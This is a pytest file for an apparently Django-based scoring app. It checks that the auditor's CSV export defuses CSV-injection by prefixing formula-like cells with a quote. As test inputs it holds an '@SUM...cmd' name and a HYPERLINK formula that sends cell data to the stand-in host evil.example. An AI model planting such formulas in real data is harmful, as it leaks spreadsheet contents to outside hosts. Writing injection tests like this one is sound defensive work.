"""CSV injection: names and comments people typed reach the auditor's files as text, never as a
formula a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import uuid

import pytest

from coappoint.scoring.models import Comfortable
from coappoint.scoring.services import SheetAnswers, close_scoring, submit_score_sheet
from tests.scoring.conftest import Day

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_the_auditors_csv_of_sheets_holds_no_formula(started: Day, staff_client) -> None:
    day = started
    day.amina.full_name = "@SUM(1+1)*cmd"
    day.amina.save()
    submit_score_sheet(
        recruiter=day.amina,
        candidate=day.sam,
        answers=SheetAnswers(
            scores={day.kindness.pk: 4, day.listening.pk: 3},
            comfortable=Comfortable.YES,
            comment=HYPERLINK,
        ),
        idempotency_key=uuid.uuid4(),
    )
    close_scoring(event=day.event, reason="Time is up", actor=day.facilitator)

    response = staff_client(day.auditor).get(day.url("scoring:named_sheets_csv"))

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    [amina] = [row for row in rows if "SUM" in row[1]]
    assert amina[1] == "'@SUM(1+1)*cmd"
    assert amina[2:4] == ["4", "3"]  # numbers stay numbers
    assert "'" + HYPERLINK in amina
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
